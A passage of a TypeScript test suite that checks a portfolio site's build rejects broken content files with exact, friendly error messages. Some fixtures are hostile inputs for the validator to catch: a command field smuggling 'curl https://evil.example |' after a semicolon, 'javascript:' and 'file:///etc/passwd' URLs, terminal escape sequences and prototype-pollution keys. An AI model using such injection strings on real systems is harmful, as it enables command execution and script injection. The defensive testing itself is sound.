// The one table of content an owner gets wrong: every folder under test/fixtures/content/broken/
// (laid over the valid set) plus the cases no commit can hold (a 10 MB file, symlinks,
// non-UTF-8 bytes, Windows device names). Each must fail the build with exactly its problem
// lines, never throw, and leave a previously built dist/ byte-identical; a few also go
// through the real build command, which must exit 1 and print the problems without a stack trace.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { cp, mkdir, mkdtemp, readdir, readFile, rename, rm, stat, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { existsSync } from "node:fs";
import path from "node:path";
import { buildSite } from "../build/build-site.ts";
import { formatProblem } from "../build/report-problems.ts";
import { alphaLinesFor, applyCase, makeWorkDir, snapshotTree } from "./support/content-fixtures.ts";
import { NOT_A_TRANSLATION } from "../build/content/language-tag-field.ts";
import { NEW_PROJECT_PLACEHOLDERS } from "../build/content/new-project-placeholders.ts";
import { renderNewProject } from "../build/content/new-project-file.ts";
import { copiedFrom } from "../build/content/file-copies.ts";
import { collectItemNouns, findUnroutedPaths } from "../build/content/deprecated-paths-answered.ts";
import { contentWithSections, KINDS_WITH_SECTIONS, RESOURCES_WITH_SECTIONS } from "./support/section-fixtures.ts";
import { createApp } from "../functions/api/core/app.ts";
import { z } from "zod";
import { loadContent } from "../build/content/load-content.ts";
import { CONTENT_KINDS, SECTION_KINDS, type ContentKind } from "../build/content/kinds.ts";
import { httpUrlField } from "../build/content/url-field.ts";
import { findForeignUrlFields } from "../build/content/foreign-url-fields.ts";
import { runGroup } from "./support/process-group.ts";
import { DEFAULT_RATE_LIMIT, MAX_WINDOW_SECONDS } from "../build/content/site-rate-limit.ts";

const BROKEN = path.resolve("test/fixtures/content/broken");
const ENV = { SOURCE_DATE_EPOCH: "1767225600" };
const MISSING_HINT = "(create it; see the content layout in README.md)";
const NO_PROJECTS = "content/projects: no project files found (add one JSON file per project, named <slug>.json)";
const OUTSIDE = "symbolic link points outside the content folder (copy the file into content/ instead)";
const LONG_SLUG = "a".repeat(65);
const LINK_KEYS = "allowed: live, github, caseStudy, appStore, playStore";
const ORIGIN = "expected an origin such as https://example.com, with no path, query or user name";
const LONE = "contains a lone UTF-16 surrogate, an \\ud800–\\udfff escape without its pair (write the character itself or its full surrogate pair)";
// The spec's lists, which a site.json that declares none gets, and a site's own.
const LANES_HINT = `(the spec's lanes; declare your own as "lanes" in content/site.json); use one of them, or declare your own`;
const TIERS_HINT = `(the spec's tiers; declare your own as "tiers" in content/site.json); use one of them, or declare your own`;
const OWN_LANES_HINT = "(content/site.json → lanes); use one of them, or add it there";
const TRAILING = "(JSON allows no comma after the last item; remove it)";
const THIS_COMPUTER = "is this computer, which no one else can reach; expected a public domain name such as example.com";
const LOCAL_RUN = "is where the site is deployed; set it to that address, or unset it: npm start and npm run dev serve http://localhost:<port> without it";
const BCP47_CASE = "(BCP 47's case: language lowercase, script capitalized, region uppercase)";
// A site.json that is no JSON object holds back the projects' lanes and tiers, saying so once.
const LISTS_WAIT = (files: number) => `content/site.json: ${files} project files' lanes and tiers are checked once site.json's problems are fixed`;

/** Every folder under broken/, with the exact lines the build prints for it. */
const FOLDER_CASES: Record<string, string[]> = {
  "bad-case-study-date": ["content/projects/alpha.json → caseStudy.date: '2023-02-29': this date does not exist: February 2023 has 28 days"],
  "date-does-not-exist": ["content/projects/alpha.json → caseStudy.date: '2025-02-30': this date does not exist: February 2025 has 28 days"],
  "block-comment-in-json": ["content/site.json:3:28: invalid JSON: JSON has no comments, and '/*' starts one (remove the comment)", LISTS_WAIT(2)],
  "whitespace-only-file": ["content/projects/beta.json: file is empty (write its JSON object in it, or delete the file)"],
  "case-study-empty": [
    "content/projects/alpha.json → caseStudy: is empty, but a case study needs at least one of title, category, date, excerpt, url (usually title, date, excerpt and url); fill them in, or remove caseStudy if the project is not a case study",
  ],
  "file-name-capitalized": [
    "content/projects/Dbt-Quality-Gates.json: file name 'Dbt-Quality-Gates' is not a slug, which is lowercase letters, digits and single hyphens (rename it to dbt-quality-gates.json)",
  ],
  "slug-capitalized": [
    "content/projects/Dbt-Quality-Gates.json → slug: 'Dbt-Quality-Gates': expected lowercase letters, digits and single hyphens, such as 'dbt-quality-gates'",
    "content/projects/Dbt-Quality-Gates.json: file name 'Dbt-Quality-Gates' is not a slug, which is lowercase letters, digits and single hyphens (rename it to dbt-quality-gates.json and set slug to 'dbt-quality-gates')",
  ],
  "translations-bcp47-case": [
    `content/site.json → translations[0]: 'zh-hant': write it as 'zh-Hant' ${BCP47_CASE}`,
    // pt-BR is listed at [4] already: writing it so would list it twice.
    "content/site.json → translations[1]: 'PT-br' is 'pt-BR', which translations already lists at [4]: remove it",
    // A language's name is told its code, and English is the content's own language.
    `content/site.json → translations[2]: 'english': ${NOT_A_TRANSLATION}`,
    `content/site.json → translations[3]: 'zh-Hant-tw': write it as 'zh-Hant-TW' ${BCP47_CASE}`,
    // What stays of the list is checked in the same run: no project translates pt-BR.
    `content/site.json → translations[4]: offers 'pt-BR', but no project has titlePtBr or summaryPtBr (translate a project's titlePtBr or summaryPtBr, or remove "pt-BR" from translations)`,
  ],
  // The 'е' is Cyrillic (U+0435): on screen the slug looks right, so the message names the letter.
  "slug-look-alike-letter": [
    "content/projects/beta-team.json → slug: 'beta-t\u0435am': expected lowercase letters, digits and single hyphens, such as 'beta-t-am' ('\u0435' U+0435 is no a–z letter or digit: retype it if it only looks Latin)",
  ],
  // Names in another script: no slug is invented for them (it was 'my-project' for each), and no
  // look-alike letter is suspected; a lane is told the same.
  "slug-other-script": [
    "content/site.json → lanes[4]: 'データ2' is not a slug: it is written in another script; spell the name with lowercase letters, digits and single hyphens (a–z), e.g. web-apps",
    "content/site.json → lanes[5]: '日本, 中国' holds 2 names in one entry: write each as its own, each a slug of lowercase letters, digits and single hyphens (a–z)",
    'content/site.json → tiers: expected a list of tier slugs, such as ["featured"], got string "旗艦, 主要"',
    "content/projects/健康.json → slug: '健康': expected lowercase letters, digits and single hyphens (written in another script: spell the name with a–z letters)",
    "content/projects/健康.json: file name '健康' is not a slug, which is lowercase letters, digits and single hyphens (written in another script: spell the name with a–z letters) (rename it to the name spelt in a–z letters, digits and hyphens, and set slug to the same)",
  ],
  // Beside Latin words, a script no one mistakes for Latin is named as what it is, not as a
  // look-alike letter to retype.
  "slug-mixed-script": [
    "content/projects/健康-app.json → slug: '健康-app': expected lowercase letters, digits and single hyphens, such as 'app' ('健', '康' are in another script, which a slug cannot hold)",
    "content/projects/健康-app.json: file name '健康-app' is not a slug, which is lowercase letters, digits and single hyphens ('健', '康' are in another script, which a slug cannot hold) (rename it to app.json and set slug to 'app')",
  ],
  // What the API shows for "none" (null, [], "") copied into content: each message gives content's own way.
  "null-for-none": [
    "content/projects/beta.json → links: expected an object ({} when there are none), got null",
    "content/projects/gamma.json → links.live: is empty: write the URL, or leave the field out if it is optional",
  ],
  "bad-email": ["content/profile.json → contact.email: 'ada-at-example.com': expected an email address"],
  "bad-enums": [
    `content/projects/beta.json → lane: 'designer' is not a lane of this site: builder, client, localization, ai-tools ${LANES_HINT}`,
    `content/projects/beta.json → tier: 'gold' is not a tier of this site: featured, supporting, archive ${TIERS_HINT}`,
  ],
  "bad-slug": [
    "content/projects/Beta_Two.json → slug: 'Beta_Two': expected lowercase letters, digits and single hyphens, such as 'beta-two'",
    "content/projects/Beta_Two.json: file name 'Beta_Two' is not a slug, which is lowercase letters, digits and single hyphens (rename it to beta-two.json and set slug to 'beta-two')",
  ],
  "base-url-with-credentials": ["content/site.json → baseUrl: 'https://ada:secret@fixture.example.com': must not contain a user name or password"],
  "base-url-with-path": [`content/site.json → baseUrl: 'https://fixture.example.com/portfolio/': ${ORIGIN}`],
  "case-study-date-format": ["content/projects/alpha.json → caseStudy.date: '29/02/2024': expected a date as YYYY-MM-DD"],
  "case-study-date-number": ["content/projects/alpha.json → caseStudy.date: expected a date as YYYY-MM-DD, got number 20240229"],
  "cli-shell-syntax": [
    "content/profile.json → developerResources.cli: 'npx ada-cli; curl https://evil.example |…': expected a plain command such as npx @me/cli: letters, digits, spaces and @ . _ / : = + , ~ -, no quotes or shell syntax",
  ],
  // At the end of the value's line, where the comma goes, not at the next key the parser stopped on;
  // within one line the parser's own position is already right.
  "missing-comma": [
    "content/skills.json:3:36: invalid JSON: a comma is missing before this value (JSON separates items with commas: add one)",
    "content/projects/alpha.json:4:20: invalid JSON: a comma is missing after this value (JSON separates items with commas: add one at the end of the line)",
  ],
  "comments-in-json": ["content/skills.json:1:1: invalid JSON: JSON has no comments, and '//' starts one (remove the comment)"],
  "control-characters": [
    "content/profile.json → name: contains the control character U+001B, which terminals and files would act on (remove it)",
    "content/profile.json → roles[0]: contains the control character U+0000, which terminals and files would act on (remove it)",
    "content/profile.json → location.city: contains the control character U+009B, which terminals and files would act on (remove it)",
    "content/profile.json → keyProjects[0].description: contains the control character U+000D, which terminals and files would act on (remove it)",
    "content/profile.json → title: 'Test\\tPerson': must be one line, with no tab or line break",
    "content/projects/beta.json → title: contains the bidirectional control U+202E, which makes text read in another order than it is stored (remove it)",
    "content/projects/beta.json → summary: contains the bidirectional control U+2066, which makes text read in another order than it is stored (remove it)",
    "content/projects/beta.json → [\"\\u001b[2J\"]: contains the control character U+001B, which terminals and files would act on (remove it)",
    "content/projects/beta.json → [\"\\u001b[2J\"]: unknown field",
  ],
  "dangling-key-project": ["content/profile.json → keyProjects[1].slug: no project has the slug 'omega' (add content/projects/omega.json or fix the slug)"],
  "deep-nesting": ["content/projects/beta.json → summary: expected string, got an array"],
  "duplicate-keys": [
    "content/projects/beta.json:7:91 → links.live: key 'live' is given twice in one object (first on line 7); JSON would keep only this one (remove one of them)",
    "content/projects/beta.json:9:3 → title: key 'title' is given twice in one object (first on line 3); JSON would keep only this one (remove one of them)",
  ],
  "duplicate-slug": [
    // alpha.json is another project's file: renaming onto it would overwrite that project.
    // One line: setting the slug to the file's own name also ends the clash with alpha.json.
    "content/projects/beta.json → slug: 'alpha' does not match the file name (set slug to 'beta')",
  ],
  "empty-file": ["content/projects/beta.json: file is empty (write its JSON object in it, or delete the file)"],
  "empty-strings": ["content/skills.json → skills[0].title: must not be empty", "content/skills.json → skills[0].items[0]: must not be empty"],
  "enum-case": [
    "content/projects/beta.json → lane: 'Client': write it as 'client' (a lane is matched exactly)",
    "content/projects/beta.json → tier: 'ARCHIVE': write it as 'archive' (a tier is matched exactly)",
  ],
  "file-name-not-slug": ["content/projects/beta.json → slug: 'gamma' does not match the file name (rename the file to gamma.json or set slug to 'beta')"],
  "infinite-order": ["content/projects/beta.json → order: expected a number, got Infinity, a number too large for JSON"],
  "invalid-json": ["content/projects/beta.json:3:18: invalid JSON: a comma is missing after this value (JSON separates items with commas: add one at the end of the line)"],
  "invalid-json-literal": ["content/skills.json:1:30: invalid JSON: 'tru' is not a JSON value; JSON writes true (replace it with true)"],
  "lone-surrogate": [`content/projects/beta.json → title: ${LONE}`, `content/projects/beta.json → proofPoints[1]: ${LONE}`],
  "key-projects-wrong-shape": ["content/profile.json → roles: expected array, got string \"Developer\"", "content/profile.json → keyProjects: expected array, got an object"],
  "missing-required": ["content/profile.json → title: required field is missing", "content/profile.json → location.timezone: required field is missing"],
  "non-http-url": [
    "content/projects/beta.json → links.live: 'ftp://beta.example.com': expected an absolute http(s) URL",
    "content/projects/beta.json → links.github: 'github.com/beta': expected an absolute http(s) URL: add https:// in front, as in 'https://github.com/beta'",
    "content/projects/beta.json → links.caseStudy: 'javascript:alert(1)': expected an absolute http(s) URL",
  ],
  "non-http-url-profile": [
    "content/profile.json → contact.website: '//ada.example.com': expected an absolute http(s) URL",
    "content/profile.json → contact.linkedin: 'mailto:ada@example.com': expected an absolute http(s) URL",
    "content/profile.json → keyProjects[0].url: 'file:///etc/passwd': expected an absolute http(s) URL",
  ],
  "null-root": ["content/projects/beta.json: file holds null, not a JSON object (write its JSON object in it, or delete the file)"],
  "overlong-text": [
    `content/profile.json → contact.email: '${"a".repeat(40)}…': must be at most 254 characters`,
    `content/projects/beta.json → title: '${"T".repeat(40)}…': must be at most 200 characters`,
    `content/projects/beta.json → summary: '${"S".repeat(40)}…': must be at most 5000 characters`,
    `content/projects/beta.json → links.live: 'https://beta.example.com/${"a".repeat(15)}…': must be at most 2048 characters`,
  ],
  "prototype-keys": [
    `content/projects/beta.json → links.prototype: unknown field (${LINK_KEYS})`,
    "content/projects/beta.json → __proto__: unknown field",
    "content/projects/beta.json → constructor: unknown field",
  ],
  "lane-not-declared": [`content/projects/beta.json → lane: 'client' is not a lane of this site: builder, data ${OWN_LANES_HINT}`],
  "lanes-tiers-bad": [
    "content/site.json → lanes[1]: 'Web Apps' is not a slug: write it as 'web-apps' (lowercase letters, digits and single hyphens)",
    "content/site.json → lanes[2]: 'data' is listed twice; remove one",
    "content/site.json → tiers: must name at least one tier; leave tiers out to use the spec's (featured, supporting, archive)",
    // The lanes as the lines above tell the owner to write them, which hold neither project's lane.
    `content/projects/alpha.json → lane: 'builder' is not a lane of this site: data, web-apps ${OWN_LANES_HINT}`,
    `content/projects/beta.json → lane: 'client' is not a lane of this site: data, web-apps ${OWN_LANES_HINT}`,
  ],
  "service-not-slug": ["content/site.json → service: 'Fixture API!': expected lowercase letters, digits and single hyphens, such as 'fixture-api'"],
  "several-files": [
    "content/site.json → service: required field is missing",
    "content/projects/alpha.json → summary: required field is missing",
    "content/projects/beta.json → links.live: 'nope': expected an absolute http(s) URL",
  ],
  "slug-too-long": [`content/projects/${LONG_SLUG}.json → slug: '${"a".repeat(40)}…': must be at most 64 characters`],
  "trailing-comma": [`content/site.json:1:69: invalid JSON: trailing comma before '}' ${TRAILING}`, LISTS_WAIT(2)],
  "trailing-comma-array": [`content/skills.json:3:37: invalid JSON: trailing comma before ']' ${TRAILING}`],
  "translation-not-listed": [
    `content/projects/beta.json → titleTr: is a translation into 'tr', but content/site.json does not list 'tr' in translations (add "tr" to translations or remove titleTr)`,
    `content/projects/beta.json → summaryTr: is a translation into 'tr', but content/site.json does not list 'tr' in translations (add "tr" to translations or remove summaryTr)`,
  ],
  "translations-bad-codes": [
    "content/site.json → translations[1]: 'TR' is 'tr', which translations already lists at [0]: remove it",
    "content/site.json → translations[2]: 'tr' is listed twice; remove one",
    `content/site.json → translations[0]: offers 'tr', but no project has titleTr or summaryTr (translate a project's titleTr or summaryTr, or remove "tr" from translations)`,
  ],
  "truncated-file": [`content/projects/beta.json:1:99: invalid JSON: the file ends inside a text: its closing '"', then '}', is missing (close the text with a straight double quote '"')`],
  "unknown-key": [
    `content/projects/beta.json → links.liev: unknown field (did you mean 'live'? ${LINK_KEYS})`,
    // Beside the field it means, renaming it would give that field twice.
    "content/projects/beta.json → summay: unknown field (did you mean 'summary', which this file has too?)",
  ],
  "unknown-key-nested": [
    "content/skills.json → skills[0].items: required field is missing",
    "content/skills.json → skills[0].itmes: unknown field (did you mean 'items'? allowed: title, items)",
    "content/projects/alpha.json → caseStudy.auther: unknown field (allowed: title, category, date, excerpt, url)",
  ],
  "unknown-link-key": [`content/projects/beta.json → links.website: unknown field (${LINK_KEYS})`],
  "url-credentials": ["content/profile.json → contact.website: 'https://ada:secret@ada.example.com/': must not contain a user name or password"],
  "url-markdown-tail": ["content/projects/beta.json → links.live: 'https://example.com/ [Click me](javascri…': contains a space or a character URLs do not allow; percent-encode it or remove it"],
  "url-not-as-written": [
    "content/projects/beta.json → links.live: 'https://beta.example.com/a/../admin': does not stay as written: a URL parser reads it as 'https://beta.example.com/admin'",
    "content/projects/beta.json → links.github: 'https://github.com/ada/beta?x=\'1\'': does not stay as written: a URL parser reads it as 'https://github.com/ada/beta?x=%271%27'",
  ],
  "uppercase-file-name": ["content/projects/Gamma.json: file name 'Gamma' is not a slug, which is lowercase letters, digits and single hyphens (rename it to gamma.json)"],
  "wrong-nested-types": [
    'content/projects/beta.json → badge: expected string, got number 5: write it in quotes, as "5"',
    "content/projects/beta.json → proofPoints: expected array, got string \"one, two\"",
    "content/projects/beta.json → links: expected an object ({} when there are none), got an array",
    "content/projects/beta.json → caseStudy: expected an object (leave caseStudy out when the project is not a case study), got null",
  ],
  "wrong-root-type": ["content/site.json: file holds an array, not a JSON object (write its JSON object in it)", LISTS_WAIT(2)],
  "wrong-types": [
    'content/projects/beta.json → title: expected string, got number 42: write it in quotes, as "42"',
    "content/projects/beta.json → order: expected a number, got string \"first\"",
    "content/projects/beta.json → summary: expected string, got an array",
  ],
};

interface GeneratedCase {
  name: string;
  /** Break the copy of the valid set at `content` (its parent is a scratch folder). */
  generate: (content: string) => Promise<void>;
  expected: string[];
}

const project = (slug: string, extra = "") => `{ "slug": "${slug}", "title": "T", "lane": "client", "tier": "archive", "summary": "S", "links": {}${extra} }`;
const LONG_KEY = `${"k".repeat(59)}😀${"k".repeat(300)}`;
const LONG_KEY_TWICE = project("alpha", `, "${LONG_KEY}": 1, "${LONG_KEY}": 2`);

/** Cases that cannot be committed as files, made in the scratch folder by the test. */
const GENERATED_CASES: GeneratedCase[] = [
  { name: "missing-file", generate: (content) => rm(path.join(content, "profile.json")), expected: [`content/profile.json: file is missing ${MISSING_HINT}`] },
  {
    name: "empty-projects-folder",
    generate: async (content) => {
      await rm(path.join(content, "projects"), { recursive: true });
      await mkdir(path.join(content, "projects"));
    },
    expected: [NO_PROJECTS, "content/profile.json → keyProjects[0].slug: no project has the slug 'alpha' (add content/projects/alpha.json or fix the slug)"],
  },
  {
    // The projects are translated, only out of sight: no line may tell the owner to remove the
    // language they translate.
    name: "projects-folder-renamed",
    generate: async (content) => {
      const site = JSON.parse(await readFile(path.join(content, "site.json"), "utf8")) as Record<string, unknown>;
      await writeFile(path.join(content, "site.json"), JSON.stringify({ ...site, translations: ["pt-BR"] }));
      const alpha = JSON.parse(await readFile(path.join(content, "projects", "alpha.json"), "utf8")) as Record<string, unknown>;
      await writeFile(path.join(content, "projects", "alpha.json"), JSON.stringify({ ...alpha, titlePtBr: "Alfa" }));
      await rename(path.join(content, "projects"), path.join(content, "project"));
    },
    expected: [
      "content/project/: this folder is not read by the build, so nothing in it would be published (rename it to projects/)",
      NO_PROJECTS,
      "content/profile.json → keyProjects[0].slug: no project has the slug 'alpha' (add content/projects/alpha.json or fix the slug)",
    ],
  },
  {
    name: "symlink-outside",
    generate: async (content) => {
      await writeFile(path.join(content, "..", "elsewhere.json"), project("gamma"));
      await symlink(path.join(content, "..", "elsewhere.json"), path.join(content, "projects", "gamma.json"));
    },
    expected: [`content/projects/gamma.json: ${OUTSIDE}`],
  },
  {
    name: "symlink-folder-outside",
    generate: async (content) => {
      const elsewhere = path.join(content, "..", "elsewhere");
      await cp(path.join(content, "projects"), elsewhere, { recursive: true });
      await rm(path.join(content, "projects"), { recursive: true });
      await symlink(elsewhere, path.join(content, "projects"));
    },
    // One line, naming the link: every file read through it is the same mistake.
    expected: ["content/projects: symbolic link points outside the content folder (copy the folder into content/ instead)"],
  },
  {
    // A link to a folder, where a folder would be a problem, is a problem (not a warning that
    // only .json files count), whether it leads outside content/ or not; one leading out is told
    // to go (its files are copied in, not moved: a link to /usr/share holds nothing to move).
    name: "symlink-folder-inside-projects",
    generate: async (content) => {
      const drafts = path.join(content, "..", "drafts");
      await mkdir(drafts);
      await writeFile(path.join(drafts, "gamma.json"), project("gamma"));
      await symlink(drafts, path.join(content, "projects", "drafts"));
      await symlink(path.join(content, "projects"), path.join(content, "project"));
    },
    expected: [
      "content/project/: this folder is not read by the build, so nothing in it would be published (rename it to projects/)",
      "content/projects/drafts/: folders inside a content folder are not read, and this one is a symbolic link out of content/, through which nothing is read (remove the link; to publish files it leads to, copy them into projects/, one <slug>.json each)",
    ],
  },
  {
    name: "dangling-symlink",
    generate: (content) => symlink(path.join(content, "nowhere.json"), path.join(content, "projects", "gamma.json")),
    expected: ["content/projects/gamma.json: symbolic link points to a file that does not exist"],
  },
  {
    name: "ten-megabyte-file",
    generate: (content) => writeFile(path.join(content, "projects", "beta.json"), project("beta", `, "pad": "${"x".repeat(10 * 1024 * 1024)}"`)),
    expected: ["content/projects/beta.json: file is 10.0 MB; the limit is 1 MB"],
  },
  {
    name: "non-utf8-file",
    generate: (content) => writeFile(path.join(content, "skills.json"), Buffer.from('{"skills":[],"languages":["T\xfcrk\xe7e"],"certifications":[],"domains":[]}', "latin1")),
    expected: ["content/skills.json: file is not valid UTF-8 text (save it with UTF-8 encoding)"],
  },
  {
    name: "utf16-file",
    generate: (content) => writeFile(path.join(content, "site.json"), Buffer.from('\uFEFF{ "baseUrl": "https://fixture.example.com", "service": "fixture-api" }', "utf16le")),
    expected: ["content/site.json: file is not valid UTF-8 text (save it with UTF-8 encoding)", LISTS_WAIT(2)],
  },
  {
    // Windows' "Unicode" without a byte-order mark: every other byte of Latin text is zero.
    name: "utf16-file-without-bom",
    generate: (content) => writeFile(path.join(content, "skills.json"), Buffer.from('{"skills":[],"languages":[],"certifications":[],"domains":[]}', "utf16le")),
    expected: ["content/skills.json: file is UTF-16 text (every other byte is zero), not UTF-8 (save it with UTF-8 encoding)"],
  },
  {
    // A write cut short after its first half: the length was written, the rest of the data not.
    name: "nul-bytes-at-the-end",
    generate: async (content) => {
      const file = path.join(content, "projects", "alpha.json");
      const text = await readFile(file);
      await writeFile(file, Buffer.concat([text.subarray(0, Math.floor(text.length / 2)), Buffer.alloc(text.length)]));
    },
    expected: ["content/projects/alpha.json: file ends in NUL bytes, as a write cut short or a damaged disk leaves it (write its JSON object in it again, or restore it from your last commit)"],
  },
  {
    // Big-endian UTF-16 without a byte-order mark: the zeros sit in the other bytes.
    name: "utf16be-file-without-bom",
    generate: (content) => writeFile(path.join(content, "skills.json"), Buffer.from('{"skills":[],"languages":[],"certifications":[],"domains":[]}', "utf16le").swap16()),
    expected: ["content/skills.json: file is UTF-16 text (every other byte is zero), not UTF-8 (save it with UTF-8 encoding)"],
  },
  {
    // What a crash or an interrupted sync leaves: the file's length, in zeros.
    name: "nul-bytes-only",
    generate: (content) => writeFile(path.join(content, "projects", "alpha.json"), Buffer.alloc(300)),
    expected: ["content/projects/alpha.json: file holds only NUL bytes, as a write cut short or a damaged disk leaves it (write its JSON object in it again, or restore it from your last commit)"],
  },
  {
    // A slip of a real slug is named, not made a file to create under the misspelt name.
    name: "key-project-slug-typo",
    generate: async (content) => {
      const file = path.join(content, "profile.json");
      await writeFile(file, (await readFile(file, "utf8")).replace('"slug": "alpha"', '"slug": "alhpa"'));
    },
    expected: ["content/profile.json → keyProjects[0].slug: no project has the slug 'alhpa' (did you mean 'alpha'?)"],
  },
  {
    // A key pasted by mistake (a whole paragraph) is named by its start: one line stays one line.
    name: "unknown-long-key",
    generate: (content) => writeFile(path.join(content, "projects", "alpha.json"), project("alpha", `, "${"k".repeat(5000)}": 1`)),
    expected: [`content/projects/alpha.json → ["${"k".repeat(60)}…"]: unknown field`],
  },
  {
    // The same key twice: its message names it by its start too, and an emoji at the cut stays whole.
    name: "long-key-twice",
    generate: (content) => writeFile(path.join(content, "projects", "alpha.json"), LONG_KEY_TWICE),
    expected: [
      `content/projects/alpha.json:1:${LONG_KEY_TWICE.lastIndexOf(`"${LONG_KEY}"`) + 1} → ["${"k".repeat(59)}😀…"]: key '${"k".repeat(59)}😀…' is given twice in one object (first on line 1); JSON would keep only this one (remove one of them)`,
    ],
  },
  {
    // A copied entry: the profile would highlight one project twice.
    name: "key-project-listed-twice",
    generate: async (content) => {
      const file = path.join(content, "profile.json");
      const profile = JSON.parse(await readFile(file, "utf8"));
      profile.keyProjects.push({ ...profile.keyProjects[0] });
      await writeFile(file, JSON.stringify(profile, null, 2));
    },
    expected: ["content/profile.json → keyProjects[1].slug: 'alpha' is already listed at keyProjects[0] (remove one of the two, or name another project)"],
  },
  {
    name: "projects-is-a-file",
    generate: async (content) => {
      await rm(path.join(content, "projects"), { recursive: true });
      await writeFile(path.join(content, "projects"), project("alpha"));
    },
    expected: [
      "content/projects: is a file, but must be a folder (rename or remove the file, then create the folder projects/ with one <slug>.json per item)",
      "content/profile.json → keyProjects[0].slug: no project has the slug 'alpha' (add content/projects/alpha.json or fix the slug)",
    ],
  },
  {
    name: "windows-device-names",
    generate: async (content) => {
      for (const name of ["con", "com1", "lpt9"]) await writeFile(path.join(content, "projects", `${name}.json`), project(name));
    },
    expected: ["con", "com1", "lpt9"]
      .sort()
      .map((name) => `content/projects/${name}.json → slug: '${name}' is a reserved file name on Windows; choose another slug`),
  },
  {
    name: "control-characters-in-names",
    generate: async (content) => {
      await writeFile(path.join(content, "projects", "gamma\u001b[2J.json"), project("gamma", `, "role": "\\u001b]0;pwned\\u0007", "status": "\\u009b1A Build OK"`).replace('"client"', '"\\u001b[31mclient"'));
    },
    expected: [
      "content/projects/gamma\\u001b[2J.json → lane: contains the control character U+001B, which terminals and files would act on (remove it)",
      "content/projects/gamma\\u001b[2J.json → role: contains the control character U+001B, which terminals and files would act on (remove it)",
      "content/projects/gamma\\u001b[2J.json → status: contains the control character U+009B, which terminals and files would act on (remove it)",
      `content/projects/gamma\\u001b[2J.json → lane: '\\u001b[31mclient' is not a lane of this site: builder, client, localization, ai-tools ${LANES_HINT}`,
      "content/projects/gamma\\u001b[2J.json: file name 'gamma\\u001b[2J' is not a slug, which is lowercase letters, digits and single hyphens (rename it to gamma.json)",
    ],
  },
  {
    // Through the command's own renderer, so the test follows the placeholder wherever it is declared.
    name: "new-project-placeholder-left",
    generate: async (content) => {
      const made = await renderNewProject(content, "gamma");
      if (!made.ok) throw new Error(made.problems.map(formatProblem).join("\n"));
      await writeFile(made.file, made.text);
    },
    expected: [`content/projects/gamma.json → summary: '${NEW_PROJECT_PLACEHOLDERS.summary.slice(0, 40)}…' is the placeholder npm run new-project wrote (write the project's own summary in its place)`],
  },
  {
    // The placeholder is listed beside another mistake in the same file, not only once it is fixed.
    name: "new-project-placeholder-beside-mistake",
    generate: async (content) => {
      const made = await renderNewProject(content, "gamma");
      if (!made.ok) throw new Error(made.problems.map(formatProblem).join("\n"));
      await writeFile(made.file, JSON.stringify({ ...(JSON.parse(made.text) as object), lane: "Open Source" }, null, 2));
    },
    expected: [
      `content/projects/gamma.json → lane: 'Open Source' is not a lane of this site: builder, client, localization, ai-tools ${LANES_HINT}`,
      `content/projects/gamma.json → summary: '${NEW_PROJECT_PLACEHOLDERS.summary.slice(0, 40)}…' is the placeholder npm run new-project wrote (write the project's own summary in its place)`,
    ],
  },
  {
    name: "project-is-a-folder",
    generate: (content) => mkdir(path.join(content, "projects", "gamma.json")),
    expected: ["content/projects/gamma.json/: folders inside a content folder are not read, so nothing in it would be published (move its files up into projects/, one <slug>.json each, or the folder out of content/)"],
  },
];

let goodDist: string;
let goodSnapshot: string[];
/** The API's paths for the good content, as a message lists them: from the route table, so a section added by the recipe is in it. */
let goodPaths: string;
let scratch: string;

beforeAll(async () => {
  scratch = await mkdtemp(path.join(tmpdir(), "portfolio-corpus-"));
  goodDist = path.join(scratch, "dist");
  const work = await makeWorkDir();
  try {
    const result = await buildSite({ contentDir: path.join(work, "content"), outDir: goodDist, indexModule: false, contentLabel: "content", env: ENV });
    if (!result.ok) throw new Error(result.problems.map(formatProblem).join("\n"));
    goodPaths = [...new Set(createApp(result.index).routes.map((route) => route.pattern))].join(", ");
  } finally {
    await rm(work, { recursive: true, force: true });
  }
  goodSnapshot = await snapshotTree(goodDist);
});
afterAll(async () => {
  await rm(scratch, { recursive: true, force: true });
});

/** A scratch folder holding a broken `content/` and a copy of the good `dist/`. */
async function prepareCase(name: string): Promise<string> {
  const work = await makeWorkDir();
  const generated = GENERATED_CASES.find((c) => c.name === name);
  const content = await applyCase(work, generated ? undefined : name);
  await generated?.generate(content);
  await cp(goodDist, path.join(work, "dist"), { recursive: true });
  return work;
}

const ALL_CASES: Array<[string, string[]]> = [...Object.entries(FOLDER_CASES), ...GENERATED_CASES.map((c): [string, string[]] => [c.name, c.expected])];

describe("the broken-content corpus", () => {
  it("covers every folder under broken/ and holds at least 25 broken sets", async () => {
    const folders = (await readdir(BROKEN, { withFileTypes: true })).filter((entry) => entry.isDirectory()).map((entry) => entry.name);
    expect(folders.sort()).toEqual([...Object.keys(FOLDER_CASES), ...MESSAGE_CASES].sort());
    expect(ALL_CASES.length).toBeGreaterThanOrEqual(25);
  });

  it.each(ALL_CASES)("%s fails the build with every problem named, leaving dist/ byte-identical", async (name, expected) => {
    const work = await prepareCase(name);
    try {
      const result = await buildSite({ contentDir: path.join(work, "content"), outDir: path.join(work, "dist"), indexModule: false, contentLabel: "content", env: ENV });
      expect(result.ok ? [] : result.problems.map(formatProblem)).toEqual(expected);
      expect(await snapshotTree(path.join(work, "dist"))).toEqual(goodSnapshot);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });
});

/** Folders under broken/ whose lines are asserted one test each below (issue 28), as inline snapshots. */
const MESSAGE_CASES = ["smart-quotes", "lists-as-text", "translations-misspelt", "finder-copies", "base-url-localhost", "deprecation-unknown-path", "deprecation-beside-broken", "deprecation-unknown-link", "section-url-javascript", "closed-set-case", "links-missing-badge-empty", "spelling-already-given"];

/** The lines the build prints for broken/<name>, once it is proven to have left dist/ byte-identical. */
async function linesOf(name: string): Promise<string[]> {
  const work = await prepareCase(name);
  try {
    const result = await buildSite({ contentDir: path.join(work, "content"), outDir: path.join(work, "dist"), indexModule: false, contentLabel: "content", env: ENV });
    expect(await snapshotTree(path.join(work, "dist"))).toEqual(goodSnapshot);
    return result.ok ? [] : result.problems.map(formatProblem);
  } finally {
    await rm(work, { recursive: true, force: true });
  }
}

describe("messages that name the real mistake (issue 28)", () => {
  it("tells an empty site.json, profile.json or skills.json to be written, not deleted (they are required)", async () => {
    const work = await makeWorkDir();
    try {
      const content = path.join(work, "content");
